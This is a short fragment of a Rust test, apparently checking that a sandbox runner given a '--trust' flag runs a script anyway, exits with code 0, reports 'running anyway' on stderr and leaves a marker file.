    let out = sandbox(ws.path(), &["--trust"], &script);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("running anyway"), "{}", stderr(&out));
    assert!(marker.exists());
}
